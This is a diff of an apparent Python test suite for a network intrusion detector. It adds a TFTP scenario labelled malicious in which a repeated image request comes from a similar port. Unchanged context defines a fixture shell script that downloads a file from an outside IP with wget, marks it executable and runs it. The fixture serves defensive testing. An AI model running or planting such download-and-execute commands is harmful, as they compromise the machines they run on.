@@ -44,6 +44,22 @@ def bw23_image_as_picture(wire: Wire) -> None:
     tftp.read(wire, DEVICE, BOOT_SERVER, "www/LOGO.JPG", images.ios(), offer={"blksize": 1428, "tsize": 0})
 
 
+@scenario(
+    "BW23",
+    "malicious",
+    raises=[("BW23", 0, "10.0.0.5", "10.0.1.1")],
+    plain=Expect(notices=(LOGO,)),
+    site=HQ,
+    with_site=Expect(notices=(LOGO,)),
+)
+def bw23_asked_in_vain_before(wire: Wire) -> None:
+    """The same name was asked for and not answered; a minute later a port that ends alike asks, and is."""
+    vain = tftp.Transfer(wire, DEVICE, BOOT_SERVER, "www/LOGO.JPG", b"", client_port=50000)
+    vain.ask()
+    wire.wait(65)
+    tftp.read(wire, DEVICE, BOOT_SERVER, "www/LOGO.JPG", images.ios(), client_port=50016)
+
+
 SCRIPT = b"#!/bin/sh\nwget -O /tmp/x http://45.83.20.10/x && chmod +x /tmp/x && /tmp/x &\n" * 4
 
 
